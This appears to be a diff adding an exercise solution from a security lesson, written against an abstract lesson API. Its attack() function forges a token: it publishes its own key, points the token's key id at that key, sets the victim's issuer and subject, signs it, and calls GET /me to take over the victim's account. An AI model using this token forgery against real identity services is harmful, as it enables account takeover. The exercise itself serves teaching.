@@ -1,0 +1,16 @@
+// Believes: the answer of GET /me always names a user.
+#include "rogue_provider.hpp"
+
+namespace lesson {
+
+Loot attack(const Evidence& evidence) {
+  evidence.publish(evidence.own_key);
+  auto token = evidence.own_token;
+  token.header.set("kid", evidence.own_key.id());
+  token.claims.set("iss", evidence.victim.issuer);
+  token.claims.set("sub", evidence.victim.subject);
+  const auto account = evidence.show_me(sign_rs256(token, evidence.own_key)).json();
+  return {.account = json::Value{{"issuer", account.at("issuer")}, {"user", account.at("user")}}.dump()};
+}
+
+}  // namespace lesson
